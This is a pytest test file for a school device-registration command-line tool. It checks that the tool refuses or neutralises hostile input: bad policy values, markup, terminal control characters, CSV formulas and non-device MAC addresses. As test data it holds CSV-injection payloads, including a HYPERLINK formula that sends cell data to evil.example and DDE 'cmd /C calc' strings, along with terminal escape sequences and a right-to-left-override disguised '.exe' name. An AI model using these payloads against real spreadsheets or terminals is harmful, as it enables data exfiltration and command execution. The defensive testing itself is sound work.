"""Hostile input through the real `schoolgate` command: markup and control characters in what
people typed, formulas in exported cells, addresses that are no device's own, and policy
values out of range or of the wrong type (issue 11, items 2, 3, 8 and 13)."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from sqlalchemy.orm import Session, sessionmaker

from service import sites
from service.db import transaction
from service.errors import PolicyError
from service.models import Device, Site
from service.policy import load_policy_text
from service.text import check_text, find_control, spreadsheet_cell, visible

REPO = Path(__file__).resolve().parents[2]
WESTGATE = str(REPO / "deploy" / "policies" / "westgate.toml")

# A policy with every section the checks below reach into.
POLICY = """
site = "hill"
school_name = "Hill School"
timezone = "Europe/London"

[vlans]
full = 10
segregated = 20
internet = 30
registration = 99

[access]
school_single = "full"
school_shared = "full"
authorised = "internet"
staff_owned = "internet"
learner_owned = "none"
visitor_owned = "internet"

[visitor]
aua_valid_until = "end_of_day"
school_day_ends = "18:00"

[session]
registration_timeout = 300
max_timeout = 43200

[explanations]
learner_owned = "Pupils hand their phones in at the office."

[[rules]]
name = "lessons"
description = "No personal devices in lessons."
classes = ["staff_owned"]
days = "mon-fri"
between = "08:30-15:30"
access = "none"
"""

# (what, text replaced, replacement, what the one-line error must say)
BAD_POLICIES = [
    (
        "session timeout wraps at 32 bits",
        "max_timeout = 43200",
        "max_timeout = 4294967301",
        "session.max_timeout: 4294967301 is out of range 1-4294967295",
    ),
    (
        "session timeout beyond 64 bits",
        "max_timeout = 43200",
        "max_timeout = 99999999999999999999",
        "session.max_timeout: 99999999999999999999 is out of range",
    ),
    (
        "session timeout zero",
        "max_timeout = 43200",
        "max_timeout = 0",
        "session.max_timeout: 0 is out of range",
    ),
    (
        "session timeout as text",
        "max_timeout = 43200",
        'max_timeout = "12h"',
        "session.max_timeout: '12h' must be a whole number of seconds",
    ),
    (
        "registration timeout wraps",
        "registration_timeout = 300",
        "registration_timeout = 4294967296",
        "session.registration_timeout: 4294967296 is out of range",
    ),
    ("VLAN above 4094", "full = 10", "full = 4095", "vlans.full: VLAN id 4095 is out of range"),
    (
        "hour 25",
        'between = "08:30-15:30"',
        'between = "25:00-26:00"',
        "rules[0].between: '25:00' is not a time of day",
    ),
    (
        "time without a colon",
        'between = "08:30-15:30"',
        'between = "0830-1530"',
        "rules[0].between: '0830' is not a time of day",
    ),
    (
        "time with a zone",
        'between = "08:30-15:30"',
        'between = "08:30+05:00-15:30"',
        "rules[0].between: '08:30+05:00' is not a time of day",
    ),
    (
        "day end as a number",
        'school_day_ends = "18:00"',
        "school_day_ends = 1800",
        "visitor.school_day_ends: 1800 is not a time of day",
    ),
    (
        "school name as a list",
        'school_name = "Hill School"',
        'school_name = ["a", "b"]',
        "school_name: ['a', 'b'] must be text in quotes",
    ),
    (
        "school name with ESC",
        'school_name = "Hill School"',
        'school_name = "Hill\\u001b[2J School"',
        "school_name: contains a control character (U+001B)",
    ),
    (
        "explanation as a number",
        'learner_owned = "Pupils hand their phones in at the office."',
        "learner_owned = 42",
        "explanations.learner_owned: 42 must be text in quotes",
    ),
    (
        "rule description as a number",
        'description = "No personal devices in lessons."',
        "description = 42",
        "rules[0].description: 42 must be text in quotes",
    ),
    (
        "a monkey is not Monday",
        'days = "mon-fri"',
        'days = ["monkey"]',
        "rules[0].days: 'monkey' is not a day",
    ),
    (
        "access level as a list",
        'visitor_owned = "internet"',
        'visitor_owned = ["internet"]',
        "access.visitor_owned: ['internet'] is not an access level",
    ),
    (
        "signature valid for 270 million years",
        'aua_valid_until = "end_of_day"',
        'aua_valid_until = "99999999999d"',
        "visitor.aua_valid_until: '99999999999d' is longer than 3650d",
    ),
    (
        "rule starting in year 1",
        'access = "none"\n',
        'access = "none"\nfrom = "0001-01-01T00:00"\n',
        "rules[0].from: '0001-01-01T00:00' is not a real date",
    ),
]
BAD_IDS = [b[0] for b in BAD_POLICIES]


def _bad_policy(old: str, new: str) -> str:
    assert POLICY.count(old) == 1, old
    return POLICY.replace(old, new)


@pytest.fixture
def db_url(request: pytest.FixtureRequest) -> str:
    """The command line's checks do not depend on the backend: SQLite, unless a test that
    stores typed text (NUL, control characters) asks for PostgreSQL too with `BOTH`."""
    backend = getattr(request, "param", "sqlite")
    return str(request.getfixturevalue(f"{backend}_url"))


BOTH = pytest.mark.parametrize(
    "db_url", ["sqlite", pytest.param("postgres", marks=pytest.mark.postgres)], indirect=True
)


@pytest.fixture
def school(run_cli) -> None:
    run_cli("db", "upgrade")
    run_cli("policy", "load", WESTGATE)


def one_line_error(result, *expected: str) -> str:
    """A non-zero exit with one line on stderr, no traceback, naming what was wrong."""
    assert result.returncode != 0, result.stdout
    assert "Traceback" not in result.stderr, result.stderr
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1, result.stderr
    for text in expected:
        assert text in lines[0], lines[0]
    return lines[0]


def devices_json(run_cli) -> list[dict]:
    return json.loads(run_cli("device", "list", "--json").stdout)


# ---------------------------------------------------------------- item 8: policy values
def test_the_good_policy_loads_with_the_widest_values() -> None:
    policy = load_policy_text(
        POLICY.replace("max_timeout = 43200", "max_timeout = 4294967295")
        .replace('days = "mon-fri"', 'days = ["Monday", "tue", "WEDNESDAY"]')
        .replace('between = "08:30-15:30"', 'between = "00:00-24:00"'),
        "hill.toml",
    )
    assert policy.max_session_timeout == 2**32 - 1
    assert policy.rules[0].days == frozenset({0, 1, 2})
    assert policy.rules[0].window == (0, 24 * 60)
    assert policy.explanations["learner_owned"].startswith("Pupils")


@pytest.mark.parametrize(("label", "old", "new", "message"), BAD_POLICIES, ids=BAD_IDS)
def test_loader_refuses_bad_values_naming_key_and_value(label, old, new, message) -> None:
    with pytest.raises(PolicyError) as err:
        load_policy_text(_bad_policy(old, new), "hill.toml")
    assert str(err.value) == str(err.value).strip().splitlines()[0]
    assert str(err.value).startswith("hill.toml: ")
    assert message in str(err.value)


@pytest.mark.parametrize(("label", "old", "new", "message"), BAD_POLICIES, ids=BAD_IDS)
def test_policy_load_refuses_bad_values_and_stores_nothing(
    run_cli, tmp_path, session_factory, label, old, new, message
) -> None:
    path = tmp_path / "hill.toml"
    path.write_text(_bad_policy(old, new), encoding="utf-8")
    result = run_cli("policy", "load", str(path), check=False)
    one_line_error(result, "error: ", "hill.toml: ", message)
    with session_factory() as session:
        assert sites.list_sites(session=session) == []


# ---------------------------------------------------------------- item 2: markup
def test_markup_in_names_is_printed_literally(school, run_cli, tmp_path) -> None:
    """`[/x]` closes a tag Rich never opened: it once crashed `device list` and `show`."""
    run_cli(
        "person", "add", "--site", "westgate", "--role", "visitor",
        "--name", "[/x] [bold]Eve[/bold] :smile:", "--email", "eve@visitor.example",
    )  # fmt: skip
    run_cli(
        "device", "add", "3c:22:fb:00:00:21", "--site", "westgate", "--class", "visitor_owned",
        "--owner", "eve@visitor.example", "--name", "[/x][red]phone", "--asset-tag", "[/]",
    )  # fmt: skip
    listing = run_cli("device", "list").stdout
    assert "[/x][red]phone" in listing
    assert "[/x] [bold]Eve[/bold] :smile:" in listing
    assert "[/]" in listing
    show = run_cli("device", "show", "3c:22:fb:00:00:21").stdout
    assert "name: [/x][red]phone" in show
    assert "owner: [/x] [bold]Eve[/bold] :smile: (visitor)" in show
    people = run_cli("person", "list").stdout
    assert "[/x] [bold]Eve[/bold] :smile:" in people
    # A school whose name looks like markup, shown in bold by `policy show`.
    policy = tmp_path / "hill.toml"
    policy.write_text(POLICY.replace('"Hill School"', '"[/x] Hill [link=http://x]"'))
    run_cli("policy", "load", str(policy))
    assert "[/x] Hill [link=http://x] (hill), policy version 1" in (
        run_cli("policy", "show", "hill").stdout
    )


def test_control_characters_stored_before_are_shown_as_escapes(
    school, run_cli, session_factory: sessionmaker[Session]
) -> None:
    """Text stored before the boundary checked it (or written by another tool) reaches the
    terminal and the CSV as visible escapes, never as a command to the terminal."""
    from sqlalchemy import select

    with transaction(session_factory) as session:
        site_id = session.scalar(select(Site.id).where(Site.code == "westgate"))
        session.add(
            Device(
                site_id=site_id,
                mac="3c:22:fb:00:00:22",
                device_class="visitor_owned",
                status="active",
                name="\x1b]0;pwned\x07\x1b[2Jcleared\u202egnp.exe\x9b31m",
            )
        )
    shown = r"\x1b]0;pwned\x07\x1b[2Jcleared\u202egnp.exe\x9b31m"
    for args in (("device", "list"), ("device", "show", "3c:22:fb:00:00:22")):
        out = run_cli(*args).stdout
        assert find_control(out, multiline=True) is None, args
        assert shown in out, args
    exported = run_cli("export", "devices").stdout
    assert find_control(exported, multiline=True) is None
    assert shown in exported
    row = json.loads(run_cli("export", "devices", "--format", "jsonl").stdout)
    assert row["name"] == "\x1b]0;pwned\x07\x1b[2Jcleared\u202egnp.exe\x9b31m"  # exact data
    listed = run_cli("device", "list", "--json").stdout
    assert find_control(listed, multiline=True) is None
    assert json.loads(listed)[0]["name"] == row["name"]


# ---------------------------------------------------------------- item 3: control characters
@pytest.mark.parametrize(
    ("args", "message"),
    [
        (
            ("person", "add", "--site", "westgate", "--role", "visitor", "--name", "Eve\x1b[2J"),
            "the value of --name contains a control character (U+001B)",
        ),
        (
            ("device", "add", "3c:22:fb:00:00:23", "--site", "westgate", "--class",
             "visitor_owned", "--name=phone\u202egnp.exe"),
            "the value of --name contains a control character (U+202E)",
        ),
        (
            ("device", "add", "3c:22:fb:00:00:23", "--site", "westgate", "--class",
             "visitor_owned", "--asset-tag", "A\x9b1"),
            "the value of --asset-tag contains a control character (U+009B)",
        ),
    ],
)  # fmt: skip
def test_cli_refuses_control_characters_in_arguments(school, run_cli, args, message) -> None:
    one_line_error(run_cli(*args, check=False), f"error: {message}")
    assert devices_json(run_cli) == []
    assert json.loads(run_cli("person", "list", "--json").stdout) == []


@BOTH
def test_import_refuses_nul_and_escapes_in_names(school, run_cli, tmp_path) -> None:
    """NUL cannot travel in argv, but it can in a CSV file; PostgreSQL cannot store it."""
    path = tmp_path / "assets.csv"
    path.write_text(
        "mac,class,asset tag,name\n"
        "3c:22:fb:00:01:01,school_shared,T1,Trolley iPad\n"
        "3c:22:fb:00:01:02,school_shared,T2,Bad\x00name\n"
        "3c:22:fb:00:01:03,school_shared,T3\x1b[31m,Another\n",
        encoding="utf-8",
    )
    one_line_error(
        run_cli("device", "import", str(path), "--site", "westgate", check=False),
        "error: CSV line 3: the device name contains a control character (U+0000)",
    )
    assert devices_json(run_cli) == []
    result = run_cli("device", "import", str(path), "--site", "westgate", "--skip-bad-rows")
    assert "imported 1 device(s)" in result.stdout
    assert "skipped line 3: the device name contains a control character (U+0000)" in (
        result.stdout
    )
    assert "skipped line 4: the asset tag contains a control character (U+001B)" in (result.stdout)
    assert [d["name"] for d in devices_json(run_cli)] == ["Trolley iPad"]


@BOTH
def test_service_functions_refuse_control_characters(session_factory) -> None:
    """The same check where a name is stored, for every adapter (the API calls these too)."""
    from service import registry
    from service.demo import seed_demo_school
    from service.errors import Invalid

    with transaction(session_factory) as session:
        seed_demo_school(session, actor="test")
    for call, message in (
        (
            lambda s: registry.add_person(
                s, site_code="westgate", role="visitor", name="Eve\x00", actor="t"
            ),
            "the name contains a control character (U+0000)",
        ),
        (
            lambda s: registry.add_device(
                s,
                mac="3c:22:fb:00:02:01",
                site_code="westgate",
                device_class="visitor_owned",
                name="x\u2066y",
                actor="t",
            ),
            "the device name contains a control character (U+2066)",
        ),
        (
            lambda s: registry.revoke_device(
                s, mac="02:00:00:00:10:01", reason="lost\x1b[8m", actor="t"
            ),
            "the reason contains a control character (U+001B)",
        ),
    ):
        with session_factory() as session, pytest.raises(Invalid) as err:
            call(session)
        assert str(err.value).startswith(message), err.value


# ---------------------------------------------------------------- item 3: CSV formulas
def test_csv_export_neutralises_formulas(school, run_cli) -> None:
    """OWASP: a cell starting with =, +, -, @, tab or CR gets a leading quote in CSV."""
    hostile = {
        "3c:22:fb:00:00:31": '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "3c:22:fb:00:00:32": "+1+cmd|' /C calc'!A0",
        "3c:22:fb:00:00:33": "-2+3",
        "3c:22:fb:00:00:34": "@SUM(1+1)*cmd|' /C calc'!A0",
        "3c:22:fb:00:00:36": "plain name",
    }
    for mac, name in hostile.items():
        run_cli(
            "device", "add", mac, "--site", "westgate", "--class", "visitor_owned",
            "--name", name, "--asset-tag", "=1+1",
        )  # fmt: skip
    rows = list(csv.DictReader(io.StringIO(run_cli("export", "devices").stdout)))
    names = {row["mac"]: row["name"] for row in rows}
    for mac, name in hostile.items():
        expected = name if name == "plain name" else "'" + name
        assert names[mac] == expected, mac
    assert {row["asset_tag"] for row in rows} == {"'=1+1"}
    assert {row["needs_reassignment"] for row in rows} == {"False"}
    for row in rows:
        assert not row["name"].startswith(("=", "+", "-", "@", "\t", "\r"))
    # JSON Lines are data, not a spreadsheet: exact.
    jsonl = [
        json.loads(line)
        for line in run_cli("export", "devices", "--format", "jsonl").stdout.splitlines()
    ]
    assert {r["mac"]: r["name"] for r in jsonl} == hostile
    # The audit log's details (JSON in one cell) go the same way.
    audit = list(csv.DictReader(io.StringIO(run_cli("export", "audit").stdout)))
    assert audit
    assert all(not v.startswith(("=", "+", "-", "@")) for r in audit for v in r.values())


def test_spreadsheet_cell_and_visible() -> None:
    assert spreadsheet_cell("=1+1") == "'=1+1"
    assert spreadsheet_cell("\r=1+1") == "\\x0d=1+1"  # shown, and no longer a formula
    assert spreadsheet_cell("\t=1+1") == "'\t=1+1"
    assert spreadsheet_cell("Zoë O'Brien") == "Zoë O'Brien"
    assert visible("a\tb\nc\x00\u202e") == "a\tb\nc\\x00\\u202e"
    assert (
        check_text("Siân 👩\u200d🏫 \u200f", field="name") == "Siân 👩\u200d🏫 \u200f"
    )  # ZWJ, RLM kept


# ---------------------------------------------------------------- item 13: MAC addresses
NOT_A_DEVICE = [
    ("00:00:00:00:00:00", "00:00:00:00:00:00 is the all-zero address"),
    ("FF-FF-FF-FF-FF-FF", "ff:ff:ff:ff:ff:ff is the broadcast address"),
    ("01:00:5e:00:00:fb", "01:00:5e:00:00:fb is a multicast (group) address"),
    ("3333.0000.0001", "33:33:00:00:00:01 is a multicast (group) address"),
    ("0180c2000000", "01:80:c2:00:00:00 is a multicast (group) address"),
]


@pytest.mark.parametrize(("mac", "message"), NOT_A_DEVICE, ids=[m for m, _ in NOT_A_DEVICE])
def test_device_add_refuses_addresses_no_device_owns(school, run_cli, mac, message) -> None:
    result = run_cli(
        "device", "add", mac, "--site", "westgate", "--class", "school_shared", check=False
    )
    one_line_error(result, f"error: {message}")
    assert devices_json(run_cli) == []


def test_device_import_refuses_addresses_no_device_owns(school, run_cli, tmp_path) -> None:
    path = tmp_path / "assets.csv"
    path.write_text(
        "mac,asset tag\n3c:22:fb:00:03:01,T1\n"
        + "".join(f"{mac},X{i}\n" for i, (mac, _) in enumerate(NOT_A_DEVICE)),
        encoding="utf-8",
    )
    one_line_error(
        run_cli("device", "import", str(path), "--site", "westgate", check=False),
        "error: CSV line 3: 00:00:00:00:00:00 is the all-zero address",
    )
    assert devices_json(run_cli) == []
    out = run_cli("device", "import", str(path), "--site", "westgate", "--skip-bad-rows").stdout
    assert "imported 1 device(s)" in out
    for line, (_, message) in enumerate(NOT_A_DEVICE, 3):
        assert f"skipped line {line}: {message}" in out
    assert [d["mac"] for d in devices_json(run_cli)] == ["3c:22:fb:00:03:01"]


def test_policy_still_answers_for_a_multicast_address(school, run_cli) -> None:
    """Only registration refuses them: a decision about such an address is still given."""
    result = json.loads(
        run_cli("policy", "explain", "01:00:5e:00:00:fb", "--site", "westgate", "--json").stdout
    )
    assert result["access"] == "registration"
